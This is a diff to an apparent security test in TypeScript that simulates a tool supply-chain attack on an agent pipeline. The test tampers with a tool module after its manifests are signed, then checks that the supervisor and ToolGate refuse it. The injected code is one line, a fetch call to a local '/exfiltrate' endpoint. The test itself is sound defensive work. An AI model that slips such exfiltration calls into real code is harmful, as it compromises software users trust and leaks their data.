@@ -1,10 +1,16 @@
 /**
- * Attack 9: the tool supply chain. After the dispatcher signed the tool
- * manifest (the SHA-256 of every tool module), `markdown_to_html` is modified
- * on disk, in a scratch copy of the repository that a scratch pipeline runs
- * from. A valid plan then asks text_formatter to run it: ToolGate hashes the
- * module before loading it and must refuse (`tool_hash_mismatch`,
- * `plan_rejected`), and nothing may execute.
+ * Attack 9: the tool supply chain. After the dispatcher signed the code and
+ * tool manifests (the SHA-256 of every file of every agent's code, and of every
+ * tool module), `markdown_to_html` is modified on disk, in a scratch copy of the
+ * repository that a scratch pipeline runs from. Two defences must each hold:
+ *
+ * 1. the supervisor refuses to start text_formatter, whose code the module is
+ *    part of (`code_hash_mismatch`, `agent_refused` naming the file);
+ * 2. with the code re-pinned (an operator who accepted the change with
+ *    `saoe publish --code` but not `--tools`), a valid plan asking
+ *    text_formatter to run the tool is refused by ToolGate, which hashes the
+ *    module before loading it (`tool_hash_mismatch`, `plan_rejected`), and
+ *    nothing executes.
  *
  * @module
  */
@@ -18,6 +24,8 @@ import type { AttackContext } from "../context.ts";
 import { awaitVerdicts } from "../expect.ts";
 import { copyRepository } from "../repo_copy.ts";
 import { codeOf, withScratch } from "../scratch.ts";
+import { applyCodePin, describeAgentCode } from "../../../services/ceremony/code_pin.ts";
+import { systemClock } from "../../../primitives/time/clock.ts";
 import type { Attack, AttackLine } from "../types.ts";
 
 const NAME = "tool-supply-chain";
@@ -29,7 +37,7 @@ export const toolSupplyChain: Attack = {
   name: NAME,
   number: 9,
   summary:
-    "modifies a tool module on disk after the manifest was signed (in a scratch copy of the repository): ToolGate must refuse it at load (tool_hash_mismatch) and run nothing",
+    "modifies a tool module on disk after the manifests were signed (in a scratch copy of the repository): the supervisor must refuse the tool host (code_hash_mismatch) and, with the code re-pinned, ToolGate must refuse the module at load (tool_hash_mismatch)",
   async run(ctx: AttackContext): Promise<AttackLine[]> {
     const copy = await copyRepository(ctx.repo);
     try {
@@ -40,7 +48,8 @@ export const toolSupplyChain: Attack = {
         module,
         `${source}\n// injected after signing\nglobalThis.fetch?.("http://127.0.0.1:9/exfiltrate");\n`,
       );
-      return [
+      const lines: AttackLine[] = [];
+      return (
         await withScratch({
           repo: ctx.repo,
           runRepo: copy,
@@ -48,15 +57,40 @@ export const toolSupplyChain: Attack = {
           log: ctx.log,
         }, async (start) => {
           if (!start.started) {
-            return {
+            return [{
               attack: NAME,
               verdict: "BREACH" as const,
               tried: TRIED,
               where: `the scratch pipeline did not start (${codeOf(start.error)})`,
               code: "tool_hash_mismatch",
-            };
+            }];
           }
-          const { scratch, probe } = start.run;
+          const { scratch, probe, supervisor } = start.run;
+          const [pinned] = await awaitVerdicts([{
+            tried: `${TRIED}: the tool host starting on it`,
+            code: "code_hash_mismatch",
+            subject: (e) => e.agent === "supervisor" && e.detail?.agent === "text_formatter",
+            refusal: (e) =>
+              e.type === "agent_refused" && e.reason === "code_hash_mismatch" &&
+              e.detail?.file === TOOL,
+            breach: (e) => e.type === "agent_started",
+            where: () => "supervisor, code manifest check before the spawn (agent_refused)",
+          }], { probe, since: 0, timeoutMs: ctx.timeoutMs });
+          lines.push({ ...pinned!, attack: NAME });
+          // the operator re-pins the code only: the tool manifest still names the old bytes
+          const contents = await describeAgentCode(copy, [{
+            agent: "text_formatter",
+            toolModules: [TOOL],
+          }]);
+          await applyCodePin({
+            home: scratch.home,
+            version: 2,
+            contents,
+            signers: await scratch.dispatchers(),
+            clock: systemClock,
+            validityDays: scratch.config.validity.manifest_days,
+          });
+          await supervisor.reload();
           const session = crypto.randomUUID();
           const envelopeId = crypto.randomUUID();
           const plan = await signPlan({
@@ -101,9 +135,10 @@ export const toolSupplyChain: Attack = {
             breach: (e) => e.type === "tool_executed",
             where: () => "text_formatter, ToolGate module check before loading (plan_rejected)",
           }], { probe, since, timeoutMs: ctx.timeoutMs });
-          return { ...line!, attack: NAME };
-        }),
-      ];
+          lines.push({ ...line!, attack: NAME });
+          return lines;
+        })
+      );
     } finally {
       await Deno.remove(copy, { recursive: true }).catch(() => {});
     }
